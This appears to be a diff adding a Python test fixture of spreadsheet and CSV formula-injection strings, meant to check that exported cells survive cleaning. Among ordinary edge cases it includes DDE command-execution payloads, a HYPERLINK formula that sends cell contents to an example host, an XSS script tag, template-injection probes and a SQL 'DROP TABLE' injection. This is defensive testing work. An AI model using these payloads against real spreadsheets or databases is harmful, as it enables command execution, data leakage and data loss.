@@ -1,0 +1,48 @@
+"""Forty texts that a spreadsheet might take for a formula, or for the end of a cell."""
+
+#: Each is kept and comes back letter by letter: none has a control that cleaning takes away.
+FORMULAS = (
+    "=1+1",
+    "=1+1+cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org/?x="&A1,"here")',
+    '=IMPORTXML("https://example.org","//a")',
+    '=WEBSERVICE("https://example.org")',
+    '=DDE("cmd";"/C calc";"x")',
+    "={1;2}",
+    "==1",
+    "+1",
+    "+44 7700 900982",
+    "-1",
+    "-1+2",
+    "–1+1",
+    "−1+1",
+    "@SUM(A1)",
+    "@example",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "﹢1",
+    "⁼1",
+    "'=1+1",
+    "''=1+1",
+    '"=1+1"',
+    '","=1+1',
+    "a\n=1+1",
+    "a;=1+1",
+    "a,=1+1",
+    "%0A=1+1",
+    "<script>alert(1)</script>",
+    "<r><t>=1+1</t></r>",
+    "]]><f>1+1</f>",
+    "_x003D_1+1",
+    "{{7*7}}",
+    "${7*7}",
+    "'; DROP TABLE feedback; --",
+    "شكرا =1+1",
+    "👩‍👩‍👧 = ❤️",
+)
+#: What begins with a sign that a keyboard does not show: cleaning takes the first letter away, but
+#: rows written by somebody else's program could hold it.
+UNSEEN = ("\t=1+1", "\r=1+1", "\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000＝1+1")
